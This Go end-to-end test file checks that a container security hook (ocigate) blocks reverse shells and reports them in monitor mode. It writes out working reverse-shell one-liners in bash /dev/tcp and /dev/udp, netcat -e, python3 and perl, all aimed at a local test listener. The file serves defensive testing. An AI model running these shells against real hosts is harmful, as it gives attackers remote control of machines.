package e2e

import (
	"fmt"
	"strconv"
	"testing"
	"time"
)

// The reverse-shell techniques of seed 000 section 1.1, each run for real
// in a container on the host root (the host's bash, python3, perl, nc: see
// ctrOpts.HostRoot) in the host network namespace, against an attacker's
// listener on 127.0.0.1 that types `echo PWNED-$((6*7)); exit` into
// whatever connects. Each technique runs three times:
//
//   - without the hook (control): the listener must get PWNED-42, so the
//     technique does work here and the protected run proves something;
//   - with the hook (the e2e default profile, which has the reverse-shell
//     exec selector): the shell's exec is refused as the agent's exec
//     backend does it (SIGKILL at sched_process_exec under the fallback,
//     EPERM from execve under LSM or fmod_ret: execRefusal), the listener
//     gets no PWNED-42, and the agent reports the refusal at
//     security_bprm_check; a relayed shell is killed at its exec or at
//     its peer's connect on every backend;
//   - with the hook under the reverse-shell policy in a monitor profile:
//     the attacker gets the shell and the event says what enforce mode
//     would have done.
//
// Techniques whose shell never has a socket on its stdio (another process
// relays a pipe, fifo or pty to the socket) are in relayed_test.go.

// technique is one reverse-shell one-liner.
type technique struct {
	name string
	// shell is the path the killed exec was given (any, if empty).
	shell string
	// connects: the technique connects to the listener before the shell's
	// exec, so even the protected run must show the connection.
	connects bool
	args     func(port int) []string
	// listen starts the attacker's listener; default: TCP on 127.0.0.1.
	listen func(t *testing.T) shellListener
	// relay: stopped as a relayed shell (point relay), not at exec.
	relay bool
	// opts adjusts the container of every run (mounts, ...).
	opts func(*ctrOpts)
}

// run is one run of the technique's container.
func (tc technique) run(t *testing.T, o ctrOpts) ctrResult {
	t.Helper()
	o.HostRoot = true
	if tc.opts != nil {
		tc.opts(&o)
	}
	return runContainer(t, o)
}

func tcpShellListener(t *testing.T) shellListener {
	return listen(t, "127.0.0.1:0", reverseShellGreeting)
}

func udpShellListener(t *testing.T) shellListener {
	return listenUDP(t, reverseShellGreeting)
}

// testTechnique runs tc's control and protected runs.
func testTechnique(t *testing.T, tc technique) {
	needHostRoot(t)
	if tc.listen == nil {
		tc.listen = tcpShellListener
	}
	t.Run("control-unprotected", func(t *testing.T) {
		ln := tc.listen(t)
		res := tc.run(t, ctrOpts{Name: tc.name + "-control", NoHook: true, Args: tc.args(ln.Port())})
		if !ln.WaitReceived(reverseShellAnswer, 5*time.Second) {
			t.Fatalf("broken test: without ocigate the technique gave no shell (listener received %q); %v",
				ln.Received(), res)
		}
	})
	t.Run("protected", func(t *testing.T) {
		ln := tc.listen(t)
		res := tc.run(t, ctrOpts{Name: tc.name, Args: tc.args(ln.Port())})
		if tcp, ok := ln.(interface{ WaitConn(time.Duration) bool }); ok && tc.connects && !tcp.WaitConn(time.Second) {
			t.Errorf("the reverse connection itself (to an allowed address) never arrived; %v", res)
		}
		if ln.WaitReceived(reverseShellAnswer, 2*time.Second) {
			t.Errorf("the attacker got a shell: listener received %q; %v", ln.Received(), res)
		}
		if tc.relay {
			waitRelayKilled(t, res.ID, relayExec(res.ID, tc.shell))
			return
		}
		waitExecRefused(t, res.ID, shellExec(res.ID, tc.shell))
	})
	t.Run("monitor", func(t *testing.T) {
		ln := tc.listen(t)
		res := tc.run(t, ctrOpts{Name: tc.name + "-monitor", Args: tc.args(ln.Port()),
			Annotations: map[string]string{"ocigate.io/profile": "reverse-shell-monitor"}})
		if !ln.WaitReceived(reverseShellAnswer, 5*time.Second) {
			t.Errorf("monitor mode must not stop the shell: listener received %q; %v", ln.Received(), res)
		}
		if tc.relay {
			waitEvent(t, res.ID, with(relayExec(res.ID, tc.shell), map[string]any{"ocigate.point": "relay",
				"process_kprobe.action": "KPROBE_ACTION_SIGKILL", "ocigate.enforced": false, "ocigate.verdict": "would-deny"}))
		} else {
			waitExecMonitored(t, res.ID, shellExec(res.ID, tc.shell))
		}
		noEvent(t, res.ID, anyEnforced(res.ID))
	})
}

// bashDevTCP is the technique bash -i >& /dev/tcp/HOST/PORT 0>&1 (bash
// opens the socket itself, then runs an interactive bash on it).
func bashDevTCP(port int) []string {
	return []string{"/bin/bash", "-c", fmt.Sprintf("bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", port)}
}

func TestTechniqueBashDevTCP(t *testing.T) {
	testTechnique(t, technique{name: "tech-bash-tcp", shell: "/usr/bin/bash", connects: true, args: bashDevTCP})
}

// The same over UDP: the shell's stdio is a connected UDP socket, still
// AF_INET.
func TestTechniqueBashDevUDP(t *testing.T) {
	testTechnique(t, technique{name: "tech-bash-udp", shell: "/usr/bin/bash", listen: udpShellListener, args: func(port int) []string {
		return []string{"/bin/bash", "-c", fmt.Sprintf("bash -i >& /dev/udp/127.0.0.1/%d 0>&1", port)}
	}})
}

// nc -e /bin/sh HOST PORT with Debian's netcat-traditional, whose -e puts
// the socket itself on the shell's stdio. (ncat -e does not: it relays
// through pipes, see the relayed techniques.)
func TestTechniqueNcExec(t *testing.T) {
	testTechnique(t, technique{name: "tech-nc-e", shell: hostShell, connects: true, args: func(port int) []string {
		return []string{"/usr/bin/nc.traditional", "-e", "/bin/sh", "127.0.0.1", strconv.Itoa(port)}
	}})
}

// python3: socket, os.dup2 onto 0, 1 and 2, subprocess.call(["/bin/sh","-i"]).
func TestTechniquePython3Dup2(t *testing.T) {
	testTechnique(t, technique{name: "tech-python3", shell: hostShell, connects: true, args: func(port int) []string {
		return []string{"/usr/bin/python3", "-c", fmt.Sprintf(`import socket,subprocess,os
s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)
s.connect(("127.0.0.1",%d))
os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)
subprocess.call(["/bin/sh","-i"])`, port)}
	}})
}

// perl: Socket, open(STDIN/STDOUT/STDERR, ">&S"), exec("/bin/sh -i").
func TestTechniquePerlSocket(t *testing.T) {
	testTechnique(t, technique{name: "tech-perl", shell: hostShell, connects: true, args: func(port int) []string {
		return []string{"/usr/bin/perl", "-e", fmt.Sprintf(`use Socket;$i="127.0.0.1";$p=%d;`+
			`socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));`+
			`if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};`, port)}
	}})
}

// The built-in reverse-shell policy in a monitor profile (picked by
// annotation): the bash /dev/tcp shell is not stopped, and the event says
// what enforce mode would have done.
func TestTechniqueMonitorBashDevTCP(t *testing.T) {
	needHostRoot(t)
	ln := listen(t, "127.0.0.1:0", reverseShellGreeting)
	res := runContainer(t, ctrOpts{Name: "tech-monitor", HostRoot: true, Args: bashDevTCP(ln.Port()),
		Annotations: map[string]string{"ocigate.io/profile": "reverse-shell-monitor"}})
	if !ln.WaitReceived(reverseShellAnswer, 5*time.Second) {
		t.Errorf("monitor mode must not stop the shell: listener received %q; %v", ln.Received(), res)
	}
	waitExecMonitored(t, res.ID, with(shellExec(res.ID, "/usr/bin/bash"), map[string]any{
		"ocigate.profile": "reverse-shell-monitor",
		"ocigate.mode":    "monitor",
	}))
	noEvent(t, res.ID, anyEnforced(res.ID))
}
